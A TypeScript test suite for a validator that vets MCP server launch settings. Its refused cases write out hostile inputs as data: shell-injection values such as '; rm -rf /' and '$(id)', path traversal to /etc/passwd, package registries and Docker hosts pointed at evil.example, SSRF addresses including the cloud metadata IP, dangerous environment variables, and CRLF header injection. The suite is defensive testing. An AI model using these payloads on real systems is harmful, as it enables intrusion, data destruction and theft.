import { describe, expect, test } from 'bun:test';
import { join } from 'node:path';
import { checkArgs } from '../../src/mcp/check-args.ts';
import { checkEnv } from '../../src/mcp/check-env.ts';
import { checkHeaders } from '../../src/mcp/check-headers.ts';
import { checkServer } from '../../src/mcp/check-server.ts';
import { maskRequest } from '../../src/mcp/mask.ts';
import { createMcpPolicy } from '../../src/mcp/policy.ts';
import { checkMcpSettings, validateMcpSettings } from '../../src/mcp/validate-settings.ts';
import { defaultConfig } from '../helpers/test-server.ts';

const SCRIPTS = join(import.meta.dir, '../fixtures/mcp');
const SCRIPT = join(SCRIPTS, 'misbehave.mjs');
const config = defaultConfig();
config.mcp.script_dirs = [SCRIPTS];
const policy = createMcpPolicy(config);

describe('arguments that start real servers are allowed', () => {
  test.each([
    ['npx', '-y', '@modelcontextprotocol/server-everything'],
    ['npx', '-y', '@modelcontextprotocol/server-filesystem@2026.8.31', '/srv/data', '/home/me/notes'],
    ['npx', '--yes', '--package', 'some-pkg', 'some-bin', '--port', '3000'],
    ['npx', '-y', 'mcp-remote', 'https://example.org/mcp?x=1'],
    ['bunx', '--bun', '@scope/server@^1.2.0'],
    ['uvx', 'mcp-server-fetch'],
    ['uvx', '--from', 'mcp-server-git==1.0.0', 'mcp-server-git', '--repository', '/srv/repo'],
    ['uvx', '--with', 'requests[socks]', '-p', '3.12', 'mcp-server-time@latest'],
    ['node', SCRIPT, 'stdio', '-p', '3000'],
    ['node', '--no-warnings', '--max-old-space-size=512', SCRIPT],
    ['python3', '-u', SCRIPT, '--verbose'],
    ['docker', 'run', '-i', '--rm', '-e', 'GITHUB_TOKEN', 'ghcr.io/github/github-mcp-server:v1'],
    ['docker', 'run', '--interactive', '--rm', '--network', 'none', '--env', 'MODE=fast', 'mcp/time'],
  ] as string[][])('%s %s %s', (command = '', ...args: string[]) => {
    expect(checkArgs(command, args, policy)).toBeUndefined();
  });
});

describe('arguments that hand over code, options or paths are refused', () => {
  test.each([
    ['npx', '-c', 'id'],
    ['npx', '--call', 'id'],
    ['npx', '--call=id'],
    ['npx', '-y', '-p', 'x', '-c', 'id'],
    ['npx', '-y', 'pkg', '-c', 'id'],
    ['npx', '--shell', '/bin/sh', 'pkg'],
    ['npx', '--script-shell=/bin/sh', 'pkg'],
    ['npx', '--node-options=--require=/tmp/x.js', 'pkg'],
    ['npx', '--registry', 'http://evil.example', 'pkg'],
    ['npx', '--prefix', '/tmp', 'pkg'],
    ['npx', '-y'],
    ['npx'],
    ['npx', 'node', 'x.js'],
    ['npx', '-y', 'bash'],
    ['npx', '-p', 'pkg', 'sh'],
    ['npx', '-y', 'tsx@4', 'x.ts'],
    ['npx', 'git+https://example.org/x.git'],
    ['npx', 'https://example.org/x.tgz'],
    ['npx', 'file:/tmp/x'],
    ['npx', '/tmp/evil'],
    ['npx', './evil'],
    ['npx', 'user/repo'],
    ['bunx', '-e', '1'],
    ['bunx', 'bun', '-e', '1'],
    ['uvx', 'python', '-c', '1'],
    ['uvx', '--from', 'git+https://example.org/x', 'x'],
    ['uvx', '--index-url', 'http://evil.example', 'x'],
    ['uvx', '--python', '/tmp/evil', 'x'],
    ['uvx', '--with-editable', '/tmp/evil', 'x'],
    ['node', '-e', 'process.exit()'],
    ['node', '--eval', '1'],
    ['node', '--eval=1'],
    ['node', '-p', '1'],
    ['node', '-pe', '1'],
    ['node', '--print', '1'],
    ['node', '-r', '/tmp/x.js', 'server.js'],
    ['node', '--require=/tmp/x.js', 'server.js'],
    ['node', '--import', 'data:text/javascript,1', 'server.js'],
    ['node', '--loader', '/tmp/x.mjs', 'server.js'],
    ['node', '--inspect=0.0.0.0:9229', 'server.js'],
    ['node', '-'],
    ['node'],
    ['node', '/dev/stdin'],
    ['node', '//proc/self/fd/0'],
    ['node', 'data:text/javascript,1'],
    ['node', 'inspect', 'x.js'],
    ['python3', '-c', 'import os'],
    ['python3', '-cimport os'],
    ['python3', '-Ic', 'import os'],
    ['python3', '-'],
    ['python3'],
    ['python3', '-m', 'pip'],
    ['python3', '-m', 'code'],
    ['python3', '-m', 'timeit'],
    ['python3', '-m', 'http.server'],
    ['python3', '-mpdb', 'x.py'],
    ['python3', '-X', 'importtime', 'x.py'],
    ['docker', 'exec', 'x', 'sh'],
    ['docker', '--host', 'tcp://evil.example', 'run', 'x'],
    ['docker', 'run', '-v', '/:/h', 'x'],
    ['docker', 'run', '-v/:/h', 'x'],
    ['docker', 'run', '--volume=/:/h', 'x'],
    ['docker', 'run', '--mount', 'type=bind,source=/,target=/h', 'x'],
    ['docker', 'run', '--privileged', 'x'],
    ['docker', 'run', '--pid=host', 'x'],
    ['docker', 'run', '--network=host', 'x'],
    ['docker', 'run', '--network', 'container:db', 'x'],
    ['docker', 'run', '--device', '/dev/sda', 'x'],
    ['docker', 'run', '--cap-add', 'ALL', 'x'],
    ['docker', 'run', '--entrypoint', 'sh', 'x'],
    ['docker', 'run', '--security-opt', 'seccomp=unconfined', 'x'],
    ['docker', 'run', '--env-file', '/etc/passwd', 'x'],
    ['docker', 'run', '-e', 'LD_PRELOAD=/x.so', 'x'],
    ['docker', 'run', '-d', 'x'],
    ['docker', 'run', '-it', 'x'],
    ['docker', 'run', 'alpine', 'sh', '-c', 'id'],
    ['docker', 'run', '-i'],
    ['docker', 'run', '-i', '-e'],
    ['deno', '-e', '1'],
    ['deno', '--eval=1'],
    ['npx', '-y', 'pkg', '; rm -rf /'],
    ['npx', '-y', 'pkg', '$(id)'],
    ['npx', '-y', 'pkg', '`id`'],
    ['npx', '-y', 'pkg', 'a|b'],
    ['npx', '-y', 'pkg', 'a&&b'],
    ['npx', '-y', 'pkg', '>/tmp/x'],
    ['npx', '-y', 'pkg', 'a\nb'],
    ['npx', '-y', 'pkg', 'a\0b'],
    ['npx', '-y', 'pkg', '../../etc/passwd'],
    ['npx', '-y', 'pkg', '/srv/../etc'],
    ['npx', '-y', 'pkg', '--root=..'],
    ['npx', '-y', 'pkg', '..\\windows'],
    ['npx', '-y', 'pkg', 'x'.repeat(5000)],
  ] as string[][])('%s %s %s', (command = '', ...args: string[]) => {
    expect(checkArgs(command, args, policy)).toMatch(/\.$|character .$/);
  });

  test('more than a hundred arguments', () => {
    expect(checkArgs('node', [SCRIPT, ...new Array(100).fill('a')], policy)).toContain('at most 100');
  });
});

describe('commands', () => {
  const stdio = (command: string | null, args: string[] = []) =>
    checkServer({ transport: 'stdio', command, args, url: null, env: null, headers: null }, policy);
  test.each([
    ['bash'],
    ['/bin/sh'],
    ['sh'],
    ['./node'],
    ['../node'],
    ['/usr/bin/node'],
    ['C:\\node.exe'],
    ['node '],
    ['NODE'],
    ['node;id'],
    [''],
    ['  '],
  ])('"%s" is refused', (command) => {
    const check = stdio(command, ['x.js']);
    expect(check).toMatchObject({ ok: false, problems: [{ path: '/command' }] });
  });
  test('a missing command is refused', () => {
    expect(stdio(null)).toMatchObject({ ok: false, problems: [{ message: 'The transport stdio needs a command.' }] });
  });
  test('an allowed command passes as it is', () => {
    expect(stdio('node', [SCRIPT])).toEqual({
      ok: true,
      target: { transport: 'stdio', command: 'node', args: [SCRIPT], env: {}, trusted: false },
    });
  });
});

describe('addresses', () => {
  const remote = (url: string | null, allowPrivateNetwork = false) => {
    const config = defaultConfig();
    config.crawl.allow_private_network = allowPrivateNetwork;
    const server = { transport: 'streamable_http' as const, command: null, args: null, url, env: null, headers: null };
    return checkServer(server, createMcpPolicy(config)).ok;
  };
  test.each([
    [null],
    [''],
    ['file:///etc/passwd'],
    ['ftp://example.org/'],
    ['javascript:1'],
    ['example.org/mcp'],
    ['http://127.0.0.1:8000/mcp'],
    ['http://localhost/mcp'],
    ['http://10.0.0.1/'],
    ['http://169.254.169.254/latest/meta-data'],
    ['http://[::1]/'],
    ['http://[::ffff:127.0.0.1]/'],
    ['http://2130706433/'],
    ['http://0x7f.1/'],
    ['http://user:pass@example.org/'],
    ['http://token@example.org/'],
    ['http://printer.local/'],
  ])('%s is refused', (url) => {
    expect(remote(url)).toBe(false);
  });
  test('a public address passes, a private one only when private networks are allowed', () => {
    expect(remote('https://mcp.example.org/mcp')).toBe(true);
    expect(remote('http://127.0.0.1:8000/mcp', true)).toBe(true);
    expect(remote('file:///etc/passwd', true)).toBe(false);
    expect(remote('http://u:p@127.0.0.1/', true)).toBe(false);
  });
});

describe('variables and headers', () => {
  test.each([
    'LD_PRELOAD',
    'LD_LIBRARY_PATH',
    'DYLD_INSERT_LIBRARIES',
    'NODE_OPTIONS',
    'NODE_PATH',
    'node_options',
    'PYTHONPATH',
    'PYTHONSTARTUP',
    'BUN_INSTALL',
    'PATH',
    'HOME',
    'BASH_ENV',
    'ENV',
    'IFS',
    'npm_config_registry',
    'UV_INDEX_URL',
    'GIT_SSH_COMMAND',
    'DOCKER_HOST',
    'PERL5OPT',
    'RUBYOPT',
    'JAVA_TOOL_OPTIONS',
    'SSL_CERT_FILE',
    'AGENT_MCP_ID',
    '1X',
    'A B',
    'A=B',
    '',
    'A\nB',
    'BASH_FUNC_x%%',
  ])('the variable "%s" is refused', (name) => {
    expect(checkEnv({ [name]: 'x' })?.message).toBeString();
  });
  test.each(['API_KEY', 'GITHUB_PERSONAL_ACCESS_TOKEN', 'NODE_ENV', 'DEBUG', 'DATABASE_URL'])(
    '%s may be set',
    (name) => {
      expect(checkEnv({ [name]: 'va lue\nwith lines' })).toBeUndefined();
    },
  );
  test('a refusal never repeats a value', () => {
    expect(JSON.stringify(checkEnv({ LD_PRELOAD: 'hunter2' }))).not.toContain('hunter2');
    expect(JSON.stringify(checkHeaders({ 'X-Key': 'hunter2\r\nHost: x' }))).not.toContain('hunter2');
  });
  test.each([
    ['X-A', 'a\r\nHost: evil'],
    ['X-A', 'a\nb'],
    ['X-A', 'a\0'],
    ['X-A', 'ünïcödé 🎉'],
    ['X A', 'a'],
    ['X-A\r\nX-B', 'a'],
    ['', 'a'],
    ['Host', 'evil'],
    ['content-length', '5'],
    ['Transfer-Encoding', 'chunked'],
    ['Connection', 'upgrade'],
  ])('the header %j: %j is refused', (name, value) => {
    expect(checkHeaders({ [name]: value })?.message).toBeString();
  });
  test('ordinary headers pass', () => {
    expect(checkHeaders({ Authorization: 'Bearer abc', 'X-Api-Key': 'k', Accept: 'a/b' })).toBeUndefined();
  });
});

describe('mcp_settings', () => {
  test('gives every server with its tools, agents and timeout', () => {
    const servers = validateMcpSettings(
      {
        servers: {
          one: {
            transport: 'stdio',
            command: 'node',
            args: [SCRIPT],
            enabled_tools: ['a'],
            add_to_agents: ['coder'],
            name: 'x',
          },
          two: { transport: 'sse', url: 'https://mcp.example.org/sse', env: null, timeout_seconds: 5 },
        },
        other: 1,
      },
      policy,
    );
    expect(servers).toEqual([
      {
        name: 'one',
        target: { transport: 'stdio', command: 'node', args: [SCRIPT], env: {}, trusted: false },
        timeoutMs: 60_000,
        enabledTools: ['a'],
        agents: ['coder'],
      },
      {
        name: 'two',
        target: { transport: 'sse', url: 'https://mcp.example.org/sse', headers: {}, trusted: false },
        timeoutMs: 5000,
        enabledTools: undefined,
        agents: ['researcher'],
      },
    ]);
  });
  test.each([null, undefined, {}, { servers: {} }, { servers: null }, { other: true }])(
    '%j names no server',
    (settings) => {
      expect(validateMcpSettings(settings, policy)).toEqual([]);
    },
  );
  const node = { transport: 'stdio', command: 'node', args: [SCRIPT] };
  test.each([
    ['text', '/mcp_settings'],
    [{ servers: [] }, '/mcp_settings/servers'],
    [{ servers: { a: null } }, '/mcp_settings/servers/a'],
    [{ servers: { a: { ...node, transport: 'pipe' } } }, '/mcp_settings/servers/a/transport'],
    [{ servers: { a: { transport: 'stdio' } } }, '/mcp_settings/servers/a/command'],
    [{ servers: { a: { transport: 'sse' } } }, '/mcp_settings/servers/a/url'],
    [{ servers: { a: { ...node, args: ['-e', '1'] } } }, '/mcp_settings/servers/a/args'],
    [{ servers: { a: { ...node, env: { LD_PRELOAD: 'x' } } } }, '/mcp_settings/servers/a/env'],
    [{ servers: { a: { ...node, timeout_seconds: 0 } } }, '/mcp_settings/servers/a/timeout_seconds'],
    [{ servers: { a: { ...node, timeout_seconds: 3601 } } }, '/mcp_settings/servers/a/timeout_seconds'],
    [{ servers: { a: { ...node, add_to_agents: ['wizard'] } } }, '/mcp_settings/servers/a/add_to_agents'],
    [{ servers: { a: node, 'b/c': { ...node, command: 'bash' } } }, '/mcp_settings/servers/b~1c/command'],
  ])('%j is refused at %s', (settings, path) => {
    const check = checkMcpSettings(settings, policy, 60_000);
    expect(check.ok).toBe(false);
    if (!check.ok) expect(check.problems[0]?.path).toBe(path);
    expect(() => validateMcpSettings(settings, policy)).toThrow(expect.objectContaining({ status: 422 }));
  });
});

test('masking hides values of variables, secret-looking headers and query values, and nothing else', () => {
  expect(
    maskRequest({
      transport: 'sse',
      url: 'https://h.example/sse?api_key=abc&mode=fast',
      env: { TOKEN: 'abc', MODE: 'fast' },
      headers: { Authorization: 'Bearer abc', 'X-Api-Key': 'abc', Accept: 'text/plain' },
      args: ['a'],
    }),
  ).toEqual({
    transport: 'sse',
    url: 'https://h.example/sse?api_key=********&mode=fast',
    env: { TOKEN: '********', MODE: '********' },
    headers: { Authorization: '********', 'X-Api-Key': '********', Accept: 'text/plain' },
    args: ['a'],
  });
});
